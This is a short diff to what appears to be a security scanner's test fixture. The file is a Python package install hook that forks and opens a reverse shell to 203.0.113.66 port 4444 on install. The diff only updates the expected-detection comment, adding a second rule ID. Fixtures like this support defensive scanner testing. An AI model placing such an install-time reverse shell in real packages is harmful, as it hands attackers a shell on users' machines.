@@ -14,7 +14,7 @@ class PostInstall(install):
         if os.fork() != 0:
             return
         s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-        s.connect(("203.0.113.66", 4444))  # expect: HS105 critical
+        s.connect(("203.0.113.66", 4444))  # expect: HS105 critical, HS118 high
         os.dup2(s.fileno(), 0)
         os.dup2(s.fileno(), 1)
         os.dup2(s.fileno(), 2)
